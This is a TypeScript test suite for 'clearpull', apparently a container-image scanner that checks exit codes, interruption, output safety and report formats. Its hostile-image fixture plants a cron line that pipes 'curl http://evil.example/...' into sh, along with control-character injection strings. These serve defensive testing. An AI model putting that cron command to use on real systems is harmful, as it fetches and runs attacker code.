import { existsSync, readFileSync } from 'node:fs';
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv } from 'ajv';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import stringWidth from 'string-width';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { miningImages, type NamedImage, openImages } from '../demo/campaign.ts';
import { honestImages } from '../demo/honest.ts';
import { debianRoot, script } from '../demo/rootfs.ts';
import type { SeveralReport } from '../src/report/json-schema.ts';
import { HOSTILE } from '../testkit/assessment.ts';
import { builtCli, type CliResult, type CliSurroundings, startCli } from '../testkit/built-cli.ts';
import { buildImage, buildIndex } from '../testkit/image.ts';
import { type RegistrySwitches, startRegistry, type TestRegistry } from '../testkit/registry.ts';
import { type TestFolder, testFolder } from '../testkit/source-options.ts';
import { ociArchive, writeOciLayout } from '../testkit/store.ts';
import { tar } from '../testkit/tar.ts';
import { requireTool } from '../testkit/tools.ts';

const DEMO: readonly NamedImage[] = [...miningImages(), ...openImages(), ...honestImages()];
const LOGIN = { username: 'someone', password: 'p:a ss' };
const ARM = { os: 'linux', architecture: 'arm64' };

const SMALL = buildImage({ steps: [{ createdBy: 'COPY a /', items: [{ path: 'a', data: 'a' }] }] });

let main = '';
let folder: TestFolder;
const registries: TestRegistry[] = [];

const at = (...names: string[]): string => join(folder.path, ...names);
const demo = (name: string): string => `oci:${at('demo')}:${name}`;
const BLOCKED = 'demo2018/tomcat:latest';
const REVIEWED = 'demo2018/mysql4:latest';
const ALLOWED = 'honest/postgres:16';

beforeAll(async () => {
  main = await builtCli();
  folder = await testFolder();
  await mkdir(at('home'));
  await mkdir(at('tmp'));
  await writeOciLayout(
    at('demo'),
    DEMO.map(({ name, spec }) => ({ name, image: buildImage(spec) })),
  );
  await writeFile(at('demo.tar.gz'), gzipSync(ociArchive([{ image: SMALL, name: 'small' }])));
});

afterAll(async () => {
  await Promise.all(registries.map((started) => started.close()));
  await folder.remove();
});

function surroundings({ env = {}, ...more }: CliSurroundings = {}): CliSurroundings {
  return { env: { HOME: at('home'), TMPDIR: at('tmp'), ...env }, cwd: folder.path, ...more };
}

function cli(args: readonly string[], more: CliSurroundings = {}): Promise<CliResult> {
  return startCli(main, args, surroundings(more)).done;
}

async function registry(switches: RegistrySwitches = {}): Promise<TestRegistry> {
  const started = await startRegistry(switches);
  registries.push(started);
  return started;
}

async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

/** Everything but newline that a terminal would obey or a reader could not see. */
const UNSAFE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\p{Cs}]/u;

function tooWide(text: string, columns: number): string[] {
  return text.split('\n').filter((line) => stringWidth(line) > columns);
}

describe('the exit code', () => {
  it('is 0 for what is allowed, and below the threshold', async () => {
    expect(await cli([demo(ALLOWED)])).toMatchObject({ code: 0, err: '' });
    expect(await cli([demo(REVIEWED)])).toMatchObject({ code: 0, err: '' });
    expect(await cli([demo(BLOCKED), '--fail-on', 'never'])).toMatchObject({ code: 0, err: '' });
  });

  it('is 1 for what is blocked, and for what is to be reviewed with --fail-on review', async () => {
    expect(await cli([demo(BLOCKED)])).toMatchObject({ code: 1, err: '' });
    expect(await cli(['--fail-on', 'review', demo(REVIEWED)])).toMatchObject({ code: 1, err: '' });
    const env = { CLEARPULL_FAIL_ON: 'review' };
    expect(await cli([demo(REVIEWED)], { env })).toMatchObject({ code: 1, err: '' });
  });

  it('is 2 for a mistaken call, with the word that was meant', async () => {
    const typed = await cli([demo(ALLOWED), '--formt', 'json']);
    expect(typed).toMatchObject({ code: 2, out: '' });
    expect(typed.err).toMatch(/^clearpull: Unknown option '--formt'\.\n {2}Did you mean --format\?\n$/);
    expect((await cli(['-f', 'jsn', demo(ALLOWED)])).err).toContain('Did you mean "json"?');
    expect(await cli([])).toMatchObject({ code: 2, out: '' });
    expect((await cli(['chekc', 'x'])).err).toContain('Did you mean "check"?');
    expect(await cli(['NGINX:1'])).toMatchObject({ code: 2, out: '' });
  });

  it('is 2 for a policy that cannot be used, and says where it is wrong', async () => {
    await writeFile(at('bad.yaml'), 'version: 1\nruls: []\n');
    const result = await cli(['--policy', at('bad.yaml'), demo(ALLOWED)]);
    expect(result).toMatchObject({ code: 2, out: '' });
    expect(result.err).toContain('ruls');
    expect(result.err).toContain('rules');
    await writeFile(at('broken.yaml'), 'version: [1\n');
    expect(await cli(['--policy', at('broken.yaml'), demo(ALLOWED)])).toMatchObject({ code: 2, out: '' });
    expect(await cli(['--policy', at('none.yaml'), demo(ALLOWED)])).toMatchObject({ code: 2, out: '' });
  });

  it('is 3 for a file that is not there, or is no image', async () => {
    const missing = await cli([at('nope.tar')]);
    expect(missing).toMatchObject({ code: 3, out: '' });
    expect(missing.err).toContain('nope.tar');
    await writeFile(at('text.tar'), 'this is no archive\n'.repeat(100));
    expect(await cli([at('text.tar')])).toMatchObject({ code: 3, out: '' });
    expect(await cli([at('home')])).toMatchObject({ code: 3, out: '' });
  });

  it('is 3 for a registry that does not answer, and says so at once', async () => {
    const host = `127.0.0.1:${await closedPort()}`;
    const { code, out, err } = await cli([`${host}/app:1`]);
    expect([code, out]).toEqual([3, '']);
    expect(err).toContain(host);
    expect(err.split('\n').length).toBeLessThanOrEqual(4);
    expect(err).not.toMatch(/ {4}at /);
  });

  it('is 3 for a registry that wants a login, and tells how to give one', async () => {
    const closed = await registry({ auth: 'basic', login: LOGIN });
    closed.put('app', SMALL, '1');
    const { code, out, err } = await cli([`${closed.host}/app:1`]);
    expect([code, out]).toEqual([3, '']);
    expect(err).toContain('docker login');
  });

  it('is 3 for a platform that there is not, and lists those that there are', async () => {
    const arm = buildImage({ steps: [], platform: ARM });
    const index = buildIndex([{ image: SMALL }, { image: arm }]);
    await writeOciLayout(at('multi'), [{ image: index, name: 'multi' }]);
    const result = await cli([`oci:${at('multi')}:multi`, '--platform', 'linux/s390x']);
    expect(result).toMatchObject({ code: 3, out: '' });
    expect(result.err).toContain('linux/amd64, linux/arm64');
    const wrong = await cli([`oci:${at('multi')}:multi`, '--platform', 'no/such/thing/at/all']);
    expect(wrong).toMatchObject({ code: 2, out: '' });
  });

  it('is 4 for a layer that is cut off, with --strict; without it that is reviewed', async () => {
    const whole = tar([{ path: 'x', data: 'x'.repeat(100_000) }]);
    const image = buildImage({ steps: [{ createdBy: 'COPY x /', tarBytes: whole.subarray(0, 50_000) }] });
    await writeOciLayout(at('cut'), [{ image, name: 'cut' }]);
    const target = `oci:${at('cut')}:cut`;
    const strict = await cli([target, '--strict']);
    expect(strict.code).toBe(4);
    expect(strict.out).toContain('NOT ALL OF IT');
    expect((await cli([target])).code).toBe(0);
    expect((await cli([target, '--fail-on', 'review'])).code).toBe(1);
  });

  it('is 1 for a layer that has other bytes than its digest says', async () => {
    await writeOciLayout(at('changed'), [{ image: SMALL, name: 'changed' }]);
    const [layer] = SMALL.layers;
    const blob = at('changed', 'blobs', layer?.digest.replace(':', '/') ?? '');
    await writeFile(blob, (await readFile(blob)).subarray(0, -20));
    expect((await cli([`oci:${at('changed')}:changed`])).code).toBe(1);
  });
});

describe('Ctrl-C in the middle of a layer', () => {
  it('ends it with 130, leaves no scratch and a cache that can be used', async () => {
    const stalling = await registry({ stallBlobs: 300_000 });
    const items = [{ path: 'big', data: noise(1_000_000) }];
    stalling.put('app', buildImage({ steps: [{ createdBy: 'COPY big /', items }] }), '1');
    const cache = at('ctrl-c-cache');
    const args = [`${stalling.host}/app:1`, '--cache-dir', cache, '-f', 'json'];
    const running = startCli(main, args, surroundings());
    // The configuration, then the layer.
    await until(() => stalling.log().filter((line) => line.includes('/blobs/')).length >= 2);
    const asked = performance.now();
    running.process.kill('SIGINT');
    const result = await running.done;
    expect(performance.now() - asked).toBeLessThan(2000);
    expect(result).toMatchObject({ code: 130, out: '' });
    expect(result.err).toBe('clearpull: Interrupted; nothing was decided.\n');
    expect(await leftovers(at('tmp'))).toEqual([]);
    expect(await leftovers(cache)).toEqual([]);
    stalling.set({});
    const after = await cli(args);
    expect(after).toMatchObject({ code: 0, err: '' });
    expect(JSON.parse(after.out)).toMatchObject({ coverage: { complete: true, files: 1 } });
    const requests = stalling.log().length;
    const again = await cli(args);
    expect(again).toMatchObject({ code: 0, err: '' });
    expect(
      stalling
        .log()
        .slice(requests)
        .filter((line) => line.includes('/blobs/')),
    ).toHaveLength(0);
  });

  it('still reports the images that were done, also into files', async () => {
    const stalling = await registry({ stallBlobs: 300_000 });
    const items = [{ path: 'big', data: noise(1_000_000) }];
    stalling.put('app', buildImage({ steps: [{ createdBy: 'COPY big /', items }] }), '1');
    const file = at('so-far.json');
    const args = [demo(BLOCKED), `${stalling.host}/app:1`, demo(ALLOWED), '--no-cache', '-q', '-o', file];
    const running = startCli(main, args, surroundings());
    await until(() => stalling.log().filter((line) => line.includes('/blobs/')).length >= 2);
    running.process.kill('SIGINT');
    const { code, out, err } = await running.done;
    expect(code).toBe(130);
    expect(out).toMatch(/^block .*tomcat.*\n$/);
    expect(err).toBe('clearpull: Interrupted; 1 image had been checked, 2 targets had not.\n');
    const report = JSON.parse(readFileSync(file, 'utf8')) as SeveralReport;
    expect(report.images.map(({ verdict }) => verdict.decision)).toEqual(['block']);
    expect(report.failed.map((one) => one.code)).toEqual(['interrupted', 'interrupted']);
  });

  it('ends a check of a compressed archive without leaving what it unpacked', async () => {
    const items = [{ path: 'big', data: noise(3_000_000) }];
    const archive = ociArchive([{ image: buildImage({ steps: [{ createdBy: 'x', items }] }), name: 'a' }]);
    await writeFile(at('big.tar.gz'), gzipSync(archive, { level: 1 }));
    const cache = at('ctrl-c-archive');
    const running = startCli(main, [at('big.tar.gz'), '--cache-dir', cache], surroundings());
    await until(() => existsSync(cache) || running.process.exitCode !== null);
    running.process.kill('SIGTERM');
    const { code } = await running.done;
    // It may have been faster.
    expect([0, 130]).toContain(code);
    expect(await leftovers(cache)).toEqual([]);
  });
});

function noise(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  let state = 1;
  for (let i = 0; i < size; i++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    bytes[i] = state >> 16;
  }
  return bytes;
}

/** What should not stay in a cache folder. */
async function leftovers(cache: string): Promise<string[]> {
  const names = await readdir(cache, { recursive: true }).catch(() => []);
  return names.filter((name) => /tmp|scratch/.test(name));
}

async function until(holds: () => boolean): Promise<void> {
  while (!holds()) await new Promise((resolve) => setTimeout(resolve, 10));
}

describe('standard output', () => {
  it('holds the result only, and what went wrong stands on standard error', async () => {
    const { code, out, err } = await cli([demo(ALLOWED), at('nope.tar'), demo(BLOCKED), '-f', 'json']);
    expect(code).toBe(1);
    const report = JSON.parse(out) as SeveralReport;
    expect(report.images.map(({ verdict }) => verdict.decision)).toEqual(['allow', 'block']);
    expect(report.failed.map((one) => one.code)).toEqual(['target-not-found']);
    expect(err).toMatch(/^clearpull: .*nope\.tar.*\n/);
    expect((await cli([demo(ALLOWED), at('nope.tar')])).code).toBe(3);
  });

  it('may be closed before its end, quietly', async () => {
    for (const args of [
      ['--help'],
      ['rules', 'list'],
      ['completion', 'bash'],
      [demo(BLOCKED)],
      ['-f', 'json', `oci:${at('demo')}`],
    ]) {
      const shell = ['bash', '-c', '"$@" | head -1; exit "${PIPESTATUS[0]}"', 'bash', process.execPath, main];
      const { err, out, signal } = await startCli(shell, args, surroundings()).done;
      expect([err, signal]).toEqual(['', null]);
      expect(out.split('\n')).toHaveLength(2);
    }
  });

  it('has no colour when piped, unless it is asked for', async () => {
    const colored = async (args: readonly string[], env: Record<string, string> = {}): Promise<boolean> =>
      (await cli([...args, demo(BLOCKED)], { env })).out.includes('\x1b[');
    expect(await colored([])).toBe(false);
    expect(await colored([], { NO_COLOR: '1' })).toBe(false);
    expect(await colored([], { FORCE_COLOR: '1' })).toBe(true);
    expect(await colored(['--color', 'always'])).toBe(true);
    expect(await colored(['--color', 'always'], { NO_COLOR: '1' })).toBe(true);
    expect(await colored(['--color', 'never'], { FORCE_COLOR: '1' })).toBe(false);
  });

  it.each(['text', 'table', 'markdown', 'json', 'sarif'])(
    'of %s has no control character',
    async (format) => {
      const { out } = await cli(['-f', format, demo(BLOCKED), demo(ALLOWED), demo(REVIEWED)]);
      expect(UNSAFE.exec(out)).toBeNull();
      expect(out.endsWith('\n')).toBe(true);
    },
  );

  it.each([60, 80, 120])('keeps within %i columns', async (columns) => {
    for (const format of ['text', 'table']) {
      const { out } = await cli(['--columns', String(columns), '-v', '-f', format, `oci:${at('demo')}`]);
      expect(tooWide(out, columns)).toEqual([]);
      expect(out).toContain('honest/nginx');
    }
  });
});

describe('at a terminal', () => {
  /** `args` in a pseudo-terminal of 80 columns; standard output and error come as one. */
  async function terminal(args: readonly string[], env: Record<string, string> = {}): Promise<CliResult> {
    const words = ['exec', process.execPath, main, ...args].map(
      (word) => `'${word.replaceAll("'", `'\\''`)}'`,
    );
    const command = `stty cols 80; ${words.join(' ').replace("'exec'", 'exec')}`;
    return startCli(
      ['script', '-qec', command, '/dev/null'],
      [],
      surroundings({ env: { TERM: 'xterm', ...env } }),
    ).done;
  }
  const BAR = '\r\x1b[K';

  it('a bar is drawn and taken away, and colours are used', async (context) => {
    requireTool(context, 'script');
    const { code, out } = await terminal(['--no-cache', demo(BLOCKED)]);
    expect(code).toBe(1);
    expect(out).toContain(BAR);
    expect(out).toContain('layer');
    expect(out.slice(out.lastIndexOf(BAR) + BAR.length)).toContain('BLOCK');
    expect(out).toContain('\x1b[31m');
    const plain = out.replaceAll(/\x1b\[\d*m/g, '').replaceAll('\r\n', '\n');
    expect(tooWide(plain.slice(plain.lastIndexOf(BAR) + BAR.length), 80)).toEqual([]);
  });

  it.each([
    ['CI=true', [], { CI: 'true' }],
    ['TERM=dumb', [], { TERM: 'dumb' }],
    ['--no-progress', ['--no-progress'], {}],
    ['--quiet', ['--quiet'], {}],
  ])('no bar is drawn with %s', async (_, args, env) => {
    const { out } = await terminal(['--no-cache', ...args, demo(BLOCKED)], env);
    expect(out).not.toContain('\x1b[K');
    expect(out).toMatch(/block/i);
  });

  it.each([
    ['NO_COLOR', [], { NO_COLOR: '1' }],
    ['TERM=dumb', [], { TERM: 'dumb' }],
    ['--color never', ['--color', 'never'], {}],
  ])('no colour is used with %s', async (_, args, env) => {
    const { out } = await terminal(['--no-progress', ...args, demo(BLOCKED)], env);
    expect(out).not.toContain('\x1b');
  });

  it('an error takes the bar away first', async () => {
    const { code, out } = await terminal([at('nope.tar')]);
    expect(code).toBe(3);
    expect(out.slice(out.lastIndexOf(BAR) + BAR.length)).toMatch(/^clearpull: /);
  });
});

describe('--output', () => {
  it('writes every format in one reading, and leaves nothing else in the folder', async () => {
    await mkdir(at('reports'));
    const place = at('reports');
    const outputs = ['json=a', 'b.sarif', 'c.md', 'table=d', 'e.txt'].map((one) =>
      one.includes('=') ? one.replace('=', `=${place}/`) : join(place, one),
    );
    const { code, out } = await cli([demo(BLOCKED), '-q', ...outputs.flatMap((one) => ['-o', one])]);
    expect(code).toBe(1);
    expect(out).toMatch(/^block {3}\S+ {2}sha256:[0-9a-f]{12}/);
    expect((await readdir(place)).sort()).toEqual(['a', 'b.sarif', 'c.md', 'd', 'e.txt']);
    const read = (name: string): string => readFileSync(join(place, name), 'utf8');
    expect(JSON.parse(read('a'))).toMatchObject({ verdict: { decision: 'block' } });
    expect(JSON.parse(read('b.sarif'))).toMatchObject({ version: '2.1.0' });
    expect(read('c.md')).toMatch(/^## ⛔ block/);
    expect(read('d')).toContain('✖ block');
    expect(read('e.txt')).toBe((await cli([demo(BLOCKED)])).out);
  });

  it('says which folder is missing before anything is read', async () => {
    const { code, out, err } = await cli([at('nope.tar'), '-o', at('none', 'x.json')]);
    expect([code, out]).toEqual([2, '']);
    expect(err).toContain(`There is no folder ${at('none')}`);
    expect(err).not.toContain('nope.tar');
  });

  it('leaves the old file alone when the new one cannot be made', async () => {
    await writeFile(at('old.json'), 'old');
    const { code } = await cli([at('nope.tar'), '-o', at('old.json')]);
    expect(code).toBe(3);
    expect(readFileSync(at('old.json'), 'utf8')).toBe('old');
  });

  it('can be standard output itself, or a pipe', async () => {
    const shell = ['bash', '-c', '"$@" | cat; exit "${PIPESTATUS[0]}"', 'bash', process.execPath, main];
    const args = [demo(ALLOWED), '-q', '-o', 'json=/dev/stdout'];
    const { code, out } = await startCli(shell, args, surroundings()).done;
    expect(code).toBe(0);
    expect(JSON.parse(out.slice(out.indexOf('{')))).toMatchObject({ verdict: { decision: 'allow' } });
  });
});

describe('a login', () => {
  it('is read from standard input, and a wrong one is refused', async () => {
    const closed = await registry({ auth: 'basic', login: LOGIN });
    closed.put('app', SMALL, '1');
    const args = [`${closed.host}/app:1`, '--username', LOGIN.username, '--password-stdin'];
    expect(await cli(args, { stdin: `${LOGIN.password}\n` })).toMatchObject({ code: 0, err: '' });
    const wrong = await cli(args, { stdin: 'wrong\n' });
    expect(wrong).toMatchObject({ code: 3, out: '' });
    expect(wrong.err).not.toContain('wrong');
    const env = { CLEARPULL_PASSWORD: LOGIN.password };
    expect(await cli(args.slice(0, 3), { env })).toMatchObject({ code: 0, err: '' });
    expect(await cli(args, { stdin: '' })).toMatchObject({ code: 2, out: '' });
    expect(await cli(['--password-stdin', args[0] as string], { stdin: 'x' })).toMatchObject({ code: 2 });
  });
});

describe('an awkward home', () => {
  it.each([
    ['no HOME', [], () => undefined],
    // As root, it can be made.
    ['a HOME that is not there', [], () => at('gone', 'home')],
    ['a HOME that is a file', [], () => '/dev/null'],
    ['a cache folder that cannot be made', ['--cache-dir', '/proc/clearpull/cache'], () => undefined],
    ['a cache folder that is a file', ['--cache-dir', '/etc/hostname'], () => undefined],
  ])('does no harm: %s', async (_, args, homeOf) => {
    const home = homeOf();
    const targets = [demo(BLOCKED), at('demo.tar.gz')];
    const { done } = startCli(main, [...targets, ...args], {
      env: { TMPDIR: at('tmp'), XDG_CACHE_HOME: '', ...(home !== undefined && { HOME: home }) },
      cwd: folder.path,
    });
    const result = await done;
    expect(result.code, result.err).toBe(1);
    expect(result.out).toContain('BLOCK');
    expect(result.out).toContain('2 images checked');
    if (args.length > 0 || home === '/dev/null') {
      expect(result.err).toMatch(/^clearpull: \S+ cannot be used to keep .*\n.*--cache-dir.*\n$/);
    } else expect(result.err).toBe('');
  });

  it('does no harm: a cache that became read-only', async () => {
    const cache = at('read-only');
    await mkdir(cache);
    await chmod(cache, 0o500);
    const targets = [demo(BLOCKED), at('demo.tar.gz')];
    expect(await cli([...targets, '--cache-dir', cache])).toMatchObject({ code: 1, err: '' });
    await chmod(cache, 0o700);
  });
});

describe('an image whose every string is hostile', () => {
  const text = HOSTILE.replaceAll(/\p{Surrogate}/gu, '');
  const name = text.replaceAll('/', '∕').slice(0, 200);
  const config = {
    Env: [`PATH=/bin:${text}`, `${text}=${text}`],
    Labels: { [text]: text, 'org.opencontainers.image.base.name': text },
    Entrypoint: [`/${name}`, text],
    Cmd: [text],
    User: text,
    WorkingDir: `/${text}`,
    ExposedPorts: { [text]: {} },
    StopSignal: text,
    Shell: [text],
    OnBuild: [text],
    Healthcheck: { Test: ['CMD-SHELL', text] },
    Volumes: { [text]: {} },
  };
  const image = buildImage({
    config,
    created: text.slice(0, 20),
    annotations: { 'org.opencontainers.image.base.name': text, [text]: text },
    steps: [
      { createdBy: `ADD ${text}`, comment: text, author: text, items: debianRoot() },
      {
        createdBy: `RUN ${text} # buildkit`,
        comment: 'buildkit.dockerfile.v0',
        items: [
          script(name, ['#!/bin/sh', `echo '${text.replaceAll(/['\r\n]/g, '')}'`, `exec "${text}"`]),
          { path: 'etc/os-release', data: `PRETTY_NAME="${text}"\n` },
          { path: 'link', type: 'symlink', target: text.replaceAll('\0', '') },
          script('etc/cron.d/job', [`* * * * * root curl http://evil.example/${name} | sh`]),
        ],
      },
      { createdBy: text },
      { createdBy: `COPY ${text}`, tarBytes: Buffer.from(`no tar at all ${text}`) },
    ],
  });

  it.each(['text', 'table', 'markdown', 'json', 'sarif'])('shows none of it raw as %s', async (format) => {
    await writeOciLayout(at(`hostile-${format}`), [{ image, name: text }]);
    const [one, several] = [
      await cli(['-f', format, '-v', `oci:${at(`hostile-${format}`)}`]),
      await cli(['-f', format, `oci:${at(`hostile-${format}`)}`, demo(BLOCKED), text]),
    ];
    for (const { code, out, err } of [one, several]) {
      expect([0, 1]).toContain(code);
      expect(out.length).toBeGreaterThan(100);
      expect(UNSAFE.exec(out)).toBeNull();
      expect(UNSAFE.exec(err)).toBeNull();
    }
    if (format === 'text' || format === 'table') expect(tooWide(one.out + several.out, 80)).toEqual([]);
    if (format === 'json' || format === 'sarif') JSON.parse(several.out);
    if (format === 'markdown') {
      expect(one.out).not.toMatch(/^## A heading/m);
      expect(one.out.replaceAll(/^(`{3,}).*\n[^]*?^\1$/gm, '')).not.toContain('<img');
    }
  });

  it('shows none of it raw with --quiet, and none of a hostile argument', async () => {
    await writeOciLayout(at('hostile-quiet'), [{ image, name: text }]);
    const quiet = await cli(['-q', `oci:${at('hostile-quiet')}`]);
    expect(quiet.out.split('\n')).toHaveLength(2);
    expect(UNSAFE.exec(quiet.out)).toBeNull();
    for (const args of [
      [text],
      [`oci:${text}`],
      [`docker-archive:${text}`],
      ['-o', text, text],
      [`--${text}`],
    ]) {
      const { code, err, out } = await cli(args);
      expect([2, 3]).toContain(code);
      expect(out).toBe('');
      expect(UNSAFE.exec(err)).toBeNull();
    }
  });
});

describe('hundreds of layers', () => {
  it('are all read, and the report stays short', async () => {
    const steps = Array.from({ length: 400 }, (_, i) => ({
      createdBy: `RUN step ${i} # buildkit`,
      comment: 'buildkit.dockerfile.v0',
      items: [{ path: `f/${i}`, data: `${i}` }],
    }));
    await writeFile(at('hundreds.tar'), ociArchive([{ image: buildImage({ steps }), name: 'hundreds' }]));
    const first = await cli([at('hundreds.tar')]);
    expect(first).toMatchObject({ code: 0, err: '' });
    expect(first.out).toContain('Every byte of 400 layers: 400 files');
    expect(first.out.split('\n').length).toBeLessThan(80);
    expect(first.out).toContain(' 400 ');
    expect(tooWide(first.out, 80)).toEqual([]);
    expect((await cli([at('hundreds.tar')])).out).toBe(first.out);
  });
});

describe('reports for other tools', () => {
  const schemaOf = {
    json: () => {
      const ajv = new Ajv2020({ strict: true, allowUnionTypes: true });
      addFormats.default(ajv);
      const file = new URL('../schema/report-1.4.0.json', import.meta.url);
      return ajv.compile(JSON.parse(readFileSync(file, 'utf8')) as object);
    },
    sarif: () => {
      const file = '@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json';
      const {
        id: _id,
        $schema: _draft,
        ...schema
      } = createRequire(import.meta.url)(file) as Record<string, unknown>;
      const ajv = new Ajv({ strict: false, allErrors: true, unicodeRegExp: false });
      addFormats.default(ajv);
      return ajv.compile(schema);
    },
  };

  it.each(['json', 'sarif'] as const)('are valid as %s, for one image and for all', async (format) => {
    const validate = schemaOf[format]();
    const calls = [
      ...[BLOCKED, REVIEWED, ALLOWED].map((name) => [demo(name)]),
      [`oci:${at('demo')}`],
      [demo(BLOCKED), at('nope.tar'), demo(ALLOWED)],
    ];
    for (const targets of calls) {
      const { out } = await cli(['-f', format, ...targets]);
      expect(validate(JSON.parse(out)), `${targets.join(' ')}: ${JSON.stringify(validate.errors)}`).toBe(
        true,
      );
    }
  });

  it('tell the same verdicts as the table', async () => {
    const { images } = JSON.parse((await cli(['-f', 'json', `oci:${at('demo')}`])).out) as SeveralReport;
    const counts = (decision: string): number =>
      images.filter(({ verdict }) => verdict.decision === decision).length;
    const { out } = await cli(['-f', 'table', `oci:${at('demo')}`]);
    expect(out).toContain(
      `${DEMO.length} images checked: ${counts('block')} block, ${counts('review')} review, ${counts('allow')} allow`,
    );
    expect(counts('allow')).toBe(honestImages().length);
  });
});
